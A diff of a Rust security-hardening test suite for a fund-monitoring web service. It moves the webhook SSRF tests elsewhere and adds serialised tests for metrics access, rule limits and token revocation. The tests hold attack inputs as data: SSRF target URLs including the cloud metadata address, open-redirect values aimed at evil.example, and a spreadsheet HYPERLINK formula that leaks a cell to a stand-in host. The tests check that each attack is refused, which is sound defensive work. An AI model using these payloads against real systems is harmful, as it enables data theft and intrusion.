@@ -1,147 +1,21 @@
 //! Issue 12, security hardening: each finding, probed against the real router on its own
-//! PostgreSQL database.
+//! PostgreSQL database. The alert-delivery findings (webhook SSRF, Slack escaping) are in
+//! `security_webhooks.rs`.
 
 mod common;
 
 use axum::http::StatusCode;
-use common::receivers::{WebhookReceiver, SECRET};
-use common::{delivery, replica_with, spawn_with, TestApp};
+use common::{spawn_with, TestApp};
 use serde_json::{json, Value};
 
 const PERIOD: &str = "2026-09-30";
 
-// ---- 1. Server-side request forgery through alert webhooks -------------------------------------
-
-/// A fund with a company, a revenue forecast for PERIOD and a rule that sends breaches by webhook.
-async fn fund_with_webhook_rule(app: &TestApp) -> (String, String) {
-    let fund = app.fund(400).await;
-    let company = app.company(&fund, "Acme Robotics").await;
-    app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
-    let (s, v) = app
-        .post(
-            &format!("/api/funds/{fund}/alert-rules"),
-            json!({"metric": "REVENUE", "comparison": "below", "threshold": "10", "unit": "percent", "severity": "critical", "channels": ["webhook"]}),
-        )
-        .await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-    (fund, company)
-}
-
-async fn breach(app: &TestApp, fund: &str, company: &str) {
-    let (s, v) = app
-        .post(
-            &format!("/api/funds/{fund}/actuals"),
-            json!({"company_id": company, "metric": "REVENUE", "value": "500000", "effective_date": chrono::Utc::now().to_rfc3339(), "period": PERIOD}),
-        )
-        .await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-}
-
-/// The fund's only webhook delivery, once it is no longer pending.
-async fn settled_webhook_delivery(app: &TestApp, fund: &str) -> Value {
-    let settled = |a: &[Value]| a.iter().filter_map(|a| delivery(a, "webhook")).any(|d| d["status"] == "dead" || d["status"] == "delivered");
-    let alerts = app.wait_for_alerts(fund, 15, settled).await;
-    let webhooks: Vec<&Value> = alerts.iter().filter_map(|a| delivery(a, "webhook")).collect();
-    assert_eq!(webhooks.len(), 1, "{alerts:#?}");
-    webhooks[0].clone()
-}
-
-#[tokio::test]
-async fn webhook_urls_to_non_public_addresses_are_refused_when_saved() {
-    let app = spawn_with(&[("ALERT_WORKER", "false"), ("WEBHOOK_ALLOW_PRIVATE", "false")]).await;
-    let fund = app.fund(10).await;
-    let settings = format!("/api/funds/{fund}/notification-settings");
-    for url in [
-        "http://127.0.0.1:8080/hook",
-        "http://127.9.9.9/hook",
-        "http://[::1]/hook",
-        "http://169.254.169.254/latest/meta-data/",
-        "http://10.0.0.7/hook",
-        "http://172.20.1.1/hook",
-        "http://192.168.1.20/hook",
-        "http://100.64.0.1/hook",
-        "http://[fd00::1]/hook",
-        "http://[fe80::1]/hook",
-        "http://[::ffff:127.0.0.1]/hook",
-        "http://[::ffff:169.254.169.254]/hook",
-        "http://0.0.0.0/hook",
-        "http://224.0.0.1/hook",
-        "http://2130706433/hook",
-        "http://0x7f.0.0.1/hook",
-        "http://localhost:8080/hook",
-        "https://user:secret@8.8.8.8/hook",
-    ] {
-        let (s, v) = app.put(&settings, json!({"webhook_url": url, "webhook_secret": SECRET})).await;
-        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{url}: {v}");
-        assert_eq!(v["field"], "webhook_url", "{url}: {v}");
-    }
-    let (_, v) = app.get(&settings).await;
-    assert_eq!(v["webhook_url"], Value::Null, "nothing was saved: {v}");
-    let (s, v) = app.put(&settings, json!({"webhook_url": "https://8.8.8.8/hook", "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "a public address is accepted: {v}");
-}
-
-/// A URL saved while private addresses were allowed (or whose DNS later changed) is refused again
-/// when the worker connects: nothing reaches the receiver, and the recorded failure names no
-/// address.
-async fn connect_time_refusal(url_of: impl Fn(&WebhookReceiver) -> String) {
-    let hook = WebhookReceiver::start(&[], 200).await;
-    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
-    let (fund, company) = fund_with_webhook_rule(&app).await;
-    let url = url_of(&hook);
-    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": url, "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "saved while WEBHOOK_ALLOW_PRIVATE=true: {v}");
-    let _worker = replica_with(&app, &[("WEBHOOK_ALLOW_PRIVATE", "false"), ("ALERT_MAX_ATTEMPTS", "2"), ("ALERT_RETRY_BASE_MS", "20"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
-    breach(&app, &fund, &company).await;
-    let d = settled_webhook_delivery(&app, &fund).await;
-    assert_eq!(d["status"], "dead", "{d}");
-    assert_eq!(d["attempts"], 2, "{d}");
-    let error = d["last_error"].as_str().unwrap();
-    assert_eq!(error, "webhook refused: the host is not a public address");
-    assert!(hook.received().is_empty(), "nothing reached the loopback receiver");
-}
-
-#[tokio::test]
-async fn a_loopback_ip_saved_earlier_is_refused_when_the_worker_connects() {
-    connect_time_refusal(|hook| hook.url.clone()).await;
-}
-
-#[tokio::test]
-async fn a_host_name_resolving_to_loopback_is_refused_when_the_worker_connects() {
-    connect_time_refusal(|hook| hook.url.replace("127.0.0.1", "localhost")).await;
-}
-
-/// Answers every POST with `307 Temporary Redirect` to `location` (which keeps the method and body).
-async fn redirector(location: String) -> String {
-    let app = axum::Router::new().route(
-        "/hook",
-        axum::routing::post(move || {
-            let location = location.clone();
-            async move { (StatusCode::TEMPORARY_REDIRECT, [("location", location)]) }
-        }),
-    );
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let url = format!("http://{}/hook", listener.local_addr().unwrap());
-    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
-    url
-}
-
-#[tokio::test]
-async fn webhook_redirects_are_not_followed_and_count_as_failed_attempts() {
-    let target = WebhookReceiver::start(&[], 200).await;
-    let bouncer = redirector(target.url.clone()).await;
-    let app = spawn_with(&[("ALERT_MAX_ATTEMPTS", "1"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
-    let (fund, company) = fund_with_webhook_rule(&app).await;
-    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": bouncer, "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "{v}");
-    breach(&app, &fund, &company).await;
-    let d = settled_webhook_delivery(&app, &fund).await;
-    assert_eq!(d["status"], "dead", "{d}");
-    assert_eq!(d["attempts"], 1);
-    assert!(d["last_error"].as_str().unwrap().contains("307"), "{d}");
-    assert!(d["last_error"].as_str().unwrap().contains("redirects are not followed"), "{d}");
-    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
-    assert!(target.received().is_empty(), "the redirect target got nothing");
+/// The tests of this file run one at a time. Run in parallel (each on its own tokio runtime), a
+/// page request sometimes never answered while another test's runtime shut down on the other
+/// thread; the server itself runs one runtime. See docs/security.md.
+fn one_at_a_time() -> std::sync::MutexGuard<'static, ()> {
+    static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());
+    SERIAL.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
 }
 
 // ---- 2. Dates outside 1900-01-01..=2200-12-31 ----------------------------------------------------
@@ -150,6 +24,7 @@ const OUT_OF_RANGE: [&str; 5] = ["%2B262142-12-31", "-262143-01-01", "1899-12-31
 
 #[tokio::test]
 async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_field() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     for raw in OUT_OF_RANGE {
@@ -172,6 +47,7 @@ async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_fie
 
 #[tokio::test]
 async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let company = app.company(&fund, "Acme").await;
@@ -209,27 +85,29 @@ async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field()
 
 #[tokio::test]
 async fn pages_and_server_functions_answer_4xx_for_dates_outside_the_range() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
-    for raw in OUT_OF_RANGE {
+    for bad in OUT_OF_RANGE {
         for (page, field) in [
-            (format!("time-machine?at={raw}"), "at"),
-            (format!("time-machine?known_at={raw}"), "known_at"),
-            (format!("time-machine?compare={raw}"), "compare"),
-            (format!("overview?at={raw}"), "at"),
-            (format!("variance?known_at={raw}"), "known_at"),
+            (format!("time-machine?at={bad}"), "at"),
+            (format!("time-machine?known_at={bad}"), "known_at"),
+            (format!("time-machine?compare={bad}"), "compare"),
+            (format!("overview?at={bad}"), "at"),
+            (format!("variance?known_at={bad}"), "known_at"),
         ] {
-            let (s, v) = app.get(&format!("/funds/{fund}/{page}")).await;
+            let (s, _, v) = raw(&app, get_req(&format!("/funds/{fund}/{page}"), Some(&app.token))).await;
+            let v = Value::String(v);
             assert!(s.is_client_error(), "{page}: {s}");
             assert!(v.as_str().unwrap().contains(field), "{page}: the page names {field}");
         }
-        let form = format!("fund_id={fund}&tab=overview&at={raw}");
+        let form = format!("fund_id={fund}&tab=overview&at={bad}");
         let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
-        assert!(s.is_client_error(), "share link at={raw}: {s} {v}");
+        assert!(s.is_client_error(), "share link at={bad}: {s} {v}");
         assert!(v.to_string().contains("at"), "{v}");
-        let form = format!("fund_id={fund}&at=&known_at={raw}");
+        let form = format!("fund_id={fund}&at=&known_at={bad}");
         let (s, v) = app.send_raw("POST", "/sfn/get_variance_page", "application/x-www-form-urlencoded", form).await;
-        assert!(s.is_client_error(), "variance page known_at={raw}: {s} {v}");
+        assert!(s.is_client_error(), "variance page known_at={bad}: {s} {v}");
     }
 }
 
@@ -239,9 +117,12 @@ async fn pages_and_server_functions_answer_4xx_for_dates_outside_the_range() {
 async fn raw(app: &TestApp, req: axum::http::Request<axum::body::Body>) -> (StatusCode, axum::http::HeaderMap, String) {
     use http_body_util::BodyExt;
     use tower::ServiceExt;
-    let res = app.router.clone().oneshot(req).await.unwrap();
+    // A request that never answers fails the test with its URI instead of hanging the run.
+    let uri = req.uri().to_string();
+    let limit = std::time::Duration::from_secs(30);
+    let res = tokio::time::timeout(limit, app.router.clone().oneshot(req)).await.unwrap_or_else(|_| panic!("{uri}: no answer within 30 s")).unwrap();
     let (parts, body) = res.into_parts();
-    let bytes = body.collect().await.unwrap().to_bytes();
+    let bytes = tokio::time::timeout(limit, body.collect()).await.unwrap_or_else(|_| panic!("{uri}: body not complete within 30 s")).unwrap().to_bytes();
     (parts.status, parts.headers, String::from_utf8_lossy(&bytes).into_owned())
 }
 
@@ -254,6 +135,7 @@ async fn sign_in(app: &TestApp, email: &str, password: &str, next: &str) -> (Sta
 
 #[tokio::test]
 async fn sign_in_only_follows_next_to_a_same_origin_path() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     for next in ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "/ok\\..\\x", "evil.example"] {
         let (s, location) = sign_in(&app, "owner@test.local", common::PASSWORD, next).await;
@@ -296,6 +178,7 @@ fn assert_common_headers(h: &axum::http::HeaderMap, what: &str) {
 
 #[tokio::test]
 async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache() {
+    let _serial = one_at_a_time();
     use base64::Engine;
     use sha2::Digest;
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
@@ -335,6 +218,7 @@ async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache()
 
 #[tokio::test]
 async fn share_pages_send_no_referrer_and_are_not_stored() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let form = format!("fund_id={fund}&tab=overview");
@@ -352,6 +236,7 @@ async fn share_pages_send_no_referrer_and_are_not_stored() {
 
 #[tokio::test]
 async fn company_names_in_the_variance_export_cannot_run_as_formulas() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(400).await;
     let evil = r#"=HYPERLINK("https://x/?"&B2,"x")"#;
@@ -413,6 +298,7 @@ fn split_csv_line(line: &str) -> Vec<String> {
 
 #[tokio::test]
 async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let (_, viewer_token) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
@@ -433,6 +319,7 @@ async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
 
 #[tokio::test]
 async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
+    let _serial = one_at_a_time();
     let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "64")]).await);
     let attempts = (0..20).map(|_| {
         let app = app.clone();
@@ -457,6 +344,7 @@ async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
 
 #[tokio::test]
 async fn sign_ins_beyond_the_password_check_bound_get_503_with_retry_after() {
+    let _serial = one_at_a_time();
     let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "1")]).await);
     let attempts: Vec<_> = (0..8)
         .map(|i| {
@@ -504,6 +392,7 @@ async fn failed_sign_in_address(env: &[(&str, &str)], forwarded_for: &str) -> St
 
 #[tokio::test]
 async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwarded_for() {
+    let _serial = one_at_a_time();
     // The client wrote "6.6.6.6" itself; the one proxy appended the address it really saw.
     assert_eq!(failed_sign_in_address(&[], "6.6.6.6, 203.0.113.7").await, "203.0.113.7");
     assert_eq!(failed_sign_in_address(&[("TRUSTED_PROXY_HOPS", "2")], "6.6.6.6, 198.51.100.2, 203.0.113.7").await, "198.51.100.2");
@@ -513,6 +402,7 @@ async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwar
 
 #[tokio::test]
 async fn a_viewer_capped_token_cannot_create_funds() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let (_, viewer) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
     let (_, analyst) = app.store.create_api_token(app.owner.id, "writer", domain::access::Role::Analyst).await.unwrap();
@@ -543,6 +433,7 @@ async fn read_shared(app: &TestApp, path: &str) -> String {
 
 #[tokio::test]
 async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let path = share_link(&app, &fund).await;
@@ -557,6 +448,7 @@ async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email(
 
 #[tokio::test]
 async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_valid() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let old = share_link(&app, &fund).await;
@@ -570,4 +462,86 @@ async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_v
     let html = read_shared(&app, &old).await;
     assert!(html.contains("not valid"), "{html}");
     assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
+}
+
+// ---- 15. /metrics only for the scraper; 401s name their scheme --------------------------------------
+
+fn metrics_req(bearer: Option<&str>, peer: Option<&str>) -> axum::http::Request<axum::body::Body> {
+    let mut req = get_req("/metrics", bearer);
+    if let Some(peer) = peer {
+        req.extensions_mut().insert(axum::extract::ConnectInfo::<std::net::SocketAddr>(peer.parse().unwrap()));
+    }
+    req
+}
+
+#[tokio::test]
+async fn metrics_need_the_metrics_token_or_a_loopback_peer() {
+    let _serial = one_at_a_time();
+    let app = spawn_with(&[("ALERT_WORKER", "false"), ("METRICS_TOKEN", "scrape-secret-123")]).await;
+    for (bearer, peer) in [(None, Some("127.0.0.1:5000")), (Some(app.token.as_str()), None), (Some("wrong"), None)] {
+        let (s, h, _) = raw(&app, metrics_req(bearer, peer)).await;
+        assert_eq!(s, StatusCode::UNAUTHORIZED, "{bearer:?} {peer:?}");
+        assert_eq!(header(&h, "www-authenticate"), "Bearer realm=\"metrics\"");
+    }
+    let (s, _, text) = raw(&app, metrics_req(Some("scrape-secret-123"), Some("203.0.113.9:5000"))).await;
+    assert_eq!(s, StatusCode::OK);
+    assert!(text.contains("http_requests_total"), "{text}");
+
+    let open = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let (s, h, _) = raw(&open, metrics_req(None, Some("203.0.113.9:5000"))).await;
+    assert_eq!(s, StatusCode::UNAUTHORIZED, "without METRICS_TOKEN only loopback peers");
+    assert!(header(&h, "www-authenticate").starts_with("Bearer"));
+    let (s, _, _) = raw(&open, metrics_req(None, Some("[::1]:5000"))).await;
+    assert_eq!(s, StatusCode::OK);
+
+    let (s, h, _) = raw(&open, get_req("/api/funds", None)).await;
+    assert_eq!(s, StatusCode::UNAUTHORIZED);
+    assert_eq!(header(&h, "www-authenticate"), "Bearer realm=\"fundlens\"", "API 401s name the scheme too");
+}
+
+// ---- 9. Alert fan-out (in part: rules per fund, cooldown of outbound channels) ----------------------
+
+#[tokio::test]
+async fn outbound_rules_need_a_cooldown_and_a_fund_has_at_most_fifty_rules() {
+    let _serial = one_at_a_time();
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let rules = format!("/api/funds/{fund}/alert-rules");
+    let rule = |channel: &str, cooldown: u32| {
+        json!({"comparison": "outside", "threshold": "5", "unit": "percent", "severity": "info", "channels": [channel], "cooldown_days": cooldown})
+    };
+    for channel in ["webhook", "email"] {
+        let (s, v) = app.post(&rules, rule(channel, 0)).await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
+        assert_eq!(v["field"], "cooldown_days", "{v}");
+    }
+    let (s, v) = app.post(&rules, rule("in_app", 0)).await;
+    assert_eq!(s, StatusCode::CREATED, "in-app alerts send nothing out: {v}");
+    let (_, list) = app.get(&rules).await;
+    for _ in list.as_array().unwrap().len()..50 {
+        let (s, v) = app.post(&rules, rule("webhook", 1)).await;
+        assert_eq!(s, StatusCode::CREATED, "{v}");
+    }
+    let (s, v) = app.post(&rules, rule("in_app", 1)).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
+    assert_eq!(v["field"], "rules", "{v}");
+    assert_eq!(app.get(&rules).await.1.as_array().unwrap().len(), 50);
+}
+
+// ---- 13. API tokens (in part: a password change revokes them) ----------------------------------------
+
+#[tokio::test]
+async fn a_password_change_revokes_the_users_api_tokens() {
+    let _serial = one_at_a_time();
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let (s, _) = app.get("/api/funds").await;
+    assert_eq!(s, StatusCode::OK);
+    let other = common::create_user(&app.store, "other@test.local").await;
+    let (_, other_token) = app.store.create_api_token(other.id, "theirs", domain::access::Role::Viewer).await.unwrap();
+    let hash = app::accounts::password::hash_password("a brand new password".to_string()).await.unwrap();
+    app.store.set_password_hash(app.owner.id, &hash).await.unwrap();
+    let (s, v) = app.get("/api/funds").await;
+    assert_eq!(s, StatusCode::UNAUTHORIZED, "the owner's token is revoked: {v}");
+    let (s, _) = app.call_as(Some(&other_token), "GET", "/api/funds", None).await;
+    assert_eq!(s, StatusCode::OK, "other users' tokens are untouched");
 }
